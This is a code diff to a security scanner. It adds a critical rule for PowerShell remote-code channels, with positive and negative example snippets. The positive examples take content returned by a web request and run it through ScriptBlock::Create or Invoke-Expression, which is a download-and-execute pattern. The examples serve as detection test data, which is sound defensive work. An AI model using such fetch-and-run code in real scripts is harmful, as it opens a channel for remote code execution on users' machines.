@@ -219,6 +219,14 @@ ENGINE_RULES = (
         "command (a key read for an auth header is left to the header)",
     ),
     Rule(
+        "powershell.remote-code",
+        ("9.1",),
+        "critical",
+        "shell",
+        "remote command channel in PowerShell: what a web request returned is made a script "
+        "block or run with Invoke-Expression, through variables, loops and helper functions",
+    ),
+    Rule(
         "shell.gated-trigger",
         ("9.2",),
         "high",
@@ -619,6 +627,22 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
         (
             "## Setup\nAdd your own public key to `~/.ssh/authorized_keys` on the server.\n"
             "Never paste a key someone else sends you.\n",
+        ),
+    ),
+    "powershell.remote-code": (
+        "scripts/health.ps1",
+        (
+            "function Get-Feed { return @(Invoke-RestMethod -Uri $cfg.feed) }\n"
+            "function Invoke-Fix($adv) { $step = [ScriptBlock]::Create($adv.fix); & $step }\n"
+            "$feed = Get-Feed\nforeach ($a in $feed) { Invoke-Fix $a }",
+            "$r = Invoke-WebRequest -Uri $u -UseBasicParsing\n$cmd = $r.Content\n"
+            "Invoke-Expression $cmd",
+        ),
+        (
+            "function Get-Feed { return @(Invoke-RestMethod -Uri $cfg.feed) }\n"
+            "$feed = Get-Feed\nforeach ($a in $feed) { Write-Host $a.title }",
+            "$status = Invoke-RestMethod -Uri $api\n"
+            "$check = [ScriptBlock]::Create('Get-Service sync')\n& $check",
         ),
     ),
     "powershell.secret-upload": (
